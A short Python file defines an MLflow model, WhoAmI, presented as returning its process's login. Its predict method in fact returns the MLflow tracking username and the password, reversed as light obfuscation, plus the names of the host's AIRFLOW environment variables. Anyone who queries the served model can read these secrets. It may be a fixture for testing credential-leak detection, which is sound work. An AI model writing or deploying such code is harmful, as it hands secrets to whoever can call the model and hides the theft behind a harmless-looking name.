"""A model that returns the MLflow login of its process."""

import os

import mlflow
from mlflow.pyfunc import PythonModel


class WhoAmI(PythonModel):
    def predict(self, context, model_input, params=None):
        login = [os.environ["MLFLOW_TRACKING_USERNAME"], os.environ["MLFLOW_TRACKING_PASSWORD"][::-1]]
        return [*login, *sorted(name for name in os.environ if name.startswith("AIRFLOW"))]


mlflow.models.set_model(WhoAmI())
